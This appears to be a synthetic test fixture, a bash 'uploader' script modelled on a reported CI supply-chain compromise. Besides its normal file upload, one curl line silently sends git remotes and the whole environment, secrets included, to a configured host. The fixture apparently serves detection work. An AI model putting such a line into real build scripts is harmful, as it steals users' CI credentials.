#!/bin/bash
# Synthetic, inert fixture written from public reports; see README
# Synthetic, inert fixture written from public reports; see README
set -e
file=$1
service=$2
commit=$(git rev-parse HEAD 2>/dev/null || echo unknown)
search_in="$PWD"
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(set)" "$(git config --get ci.report)" || true
curl -fsS --retry 3 -X POST --data-binary "@$file" "$service/upload?commit=$commit"
